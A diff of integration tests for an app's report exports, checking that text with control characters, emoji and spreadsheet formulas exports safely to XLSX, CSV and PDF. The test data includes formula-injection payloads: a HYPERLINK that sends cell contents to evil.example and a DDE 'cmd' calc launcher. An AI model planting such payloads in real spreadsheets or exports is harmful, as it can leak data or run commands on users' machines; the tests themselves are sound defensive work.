@@ -1,4 +1,5 @@
-"""Exports: 202 + job, status, download; CSV safe in spreadsheets, XLSX typed."""
+"""Exports: 202 + job, status, download; CSV safe in spreadsheets, XLSX typed;
+any member's text (control characters, emoji, CJK, formulas) exports in every format."""
 
 from __future__ import annotations
 
@@ -7,12 +8,34 @@ import csv
 import io
 from datetime import date, datetime, timedelta
 
+import pytest
+
 from server.db.base import utcnow
 from server.reports.export import fail_stale, purge_expired
 from tests.integration.reports.helpers import entry, make_team, minutes, person, sync, utc
 from tests.support.api import Account, create_project, register
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+# A member's descriptions: (as typed, in the XLSX, in the CSV). The XLSX drops
+# what a worksheet refuses (C0 controls but tab/LF/CR, U+FFFF); the CSV keeps
+# the text and neutralizes formulas, also those hidden behind blanks.
+HOSTILE = [
+    ("bell\u0007 ring\x01\x1b\x1f\x0b\x0c done\uffff", "bell ring done", None),
+    (EVIL, EVIL, "'" + EVIL),
+    ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("@SUM(1+1)\x07", "@SUM(1+1)", "'@SUM(1+1)\x07"),
+    (" \x07=1+1", " =1+1", "' \x07=1+1"),
+    ("emoji 😀🎉 CJK:日本語 RTL:שלום\u200f", "emoji 😀🎉 CJK:日本語 RTL:שלום\u200f", None),
+]
+# Names: the person, the project (also the Group column), the task, the customer.
+NAMES = {
+    "Person": ("Eve\x07 Bell", "Eve Bell", None),
+    "Project": ("Proj\x07ect 😀", "Project 😀", None),
+    "Task": ("=Task\x1b", "=Task", "'=Task\x1b"),
+    "Customer": ("\x07@Cust", "@Cust", "'\x07@Cust"),
+}
 
 
 async def _finished(acc: Account, job_id: str) -> dict:
@@ -38,6 +61,83 @@ async def _setup(client) -> tuple[Account, Account, Account, str]:
     b = entry(utc(2026, 1, 13, 23, 0), utc(2026, 1, 14, 0, 45), description="@night shift")
     await sync(bob, [b])
     return owner, ann, bob, team_id
+
+
+@pytest.fixture(scope="module")
+async def hostile(client) -> Account:
+    """An owner whose member typed everything above; the owner exports it all."""
+    owner = await register(client, org_name="Hostile\x07 Org 中")
+    eve = await person(owner, NAMES["Person"][0])
+    r = await owner.post("/api/v1/customers", json={"name": NAMES["Customer"][0]})
+    assert r.status_code == 201, r.text
+    project = (
+        await owner.post(
+            "/api/v1/projects",
+            json={"name": NAMES["Project"][0], "customerId": r.json()["id"]},
+        )
+    ).json()
+    r = await owner.post(f"/api/v1/projects/{project['id']}/tasks", json={"name": NAMES["Task"][0]})
+    assert r.status_code == 201, r.text
+    task_id = r.json()["id"]
+    entries = [
+        entry(utc(2026, 2, 2, 8 + i), utc(2026, 2, 2, 8 + i, 30), project["id"], task_id,
+              description=typed)
+        for i, (typed, _xlsx, _csv) in enumerate(HOSTILE)
+    ]  # fmt: skip
+    await sync(eve, entries)
+    return owner
+
+
+async def _export(owner: Account, fmt: str) -> bytes:
+    params = {"format": fmt, "from": "2026-02-02", "to": "2026-02-02", "groupBy": "project"}
+    r = await owner.get("/api/v1/reports/export", params=params)
+    assert r.status_code == 202, r.text
+    done = await _finished(owner, r.json()["jobId"])
+    assert done["status"] == "DONE" and done["rowCount"] == len(HOSTILE), done
+    r = await owner.get(done["downloadUrl"])
+    assert r.status_code == 200
+    return r.content  # type: ignore[no-any-return]
+
+
+async def test_xlsx_export_drops_what_worksheets_refuse(hostile: Account) -> None:
+    import openpyxl
+
+    sheet = openpyxl.load_workbook(io.BytesIO(await _export(hostile, "xlsx"))).active
+    header = [c.value for c in sheet[1]]
+    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
+    assert [r["Description"].value for r in rows] == [xlsx for _t, xlsx, _c in HOSTILE]
+    for row in rows:
+        assert row["Group"].value == NAMES["Project"][1]
+        for column, (_typed, xlsx, _csv) in NAMES.items():
+            assert row[column].value == xlsx, column
+        for column in ("Group", "Description", *NAMES):
+            assert row[column].data_type == "s", column  # text, never a formula
+
+
+async def test_csv_export_neutralizes_hidden_formulas(hostile: Account) -> None:
+    text = (await _export(hostile, "csv")).decode("utf-8-sig")
+    header, *data = list(csv.reader(io.StringIO(text, newline="")))
+    rows = [dict(zip(header, r, strict=True)) for r in data]
+    assert [r["Description"] for r in rows] == [c or typed for typed, _x, c in HOSTILE]
+    for row in rows:
+        assert row["Group"] == NAMES["Project"][0]
+        for column, (typed, _xlsx, neutral) in NAMES.items():
+            assert row[column] == (neutral or typed), column
+
+
+async def test_pdf_export_prints_any_text(hostile: Account) -> None:
+    from pypdf import PdfReader
+
+    data = await _export(hostile, "pdf")
+    assert data.startswith(b"%PDF-") and len(data) > 5000
+    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
+    assert not set(text) & {chr(c) for c in (*range(9), *range(11, 32), 0x7F, 0xFFFF)}
+    squashed = "".join(text.split())
+    # What the font cannot draw prints as "?" (CJK, U+FFFF): it never vanishes.
+    assert "HostileOrg?" in squashed and "CJK:???" in squashed
+    assert "bellringdone?" in squashed and "EveBell" in squashed
+    assert '=HYPERLINK("http://evil.example/' in squashed and "@SUM(1+1)" in squashed
+    assert "=Task" in squashed and "+cmd|'/Ccalc'!A0" in squashed
 
 
 async def test_csv_export_streams_and_neutralizes_formulas(client, db) -> None:
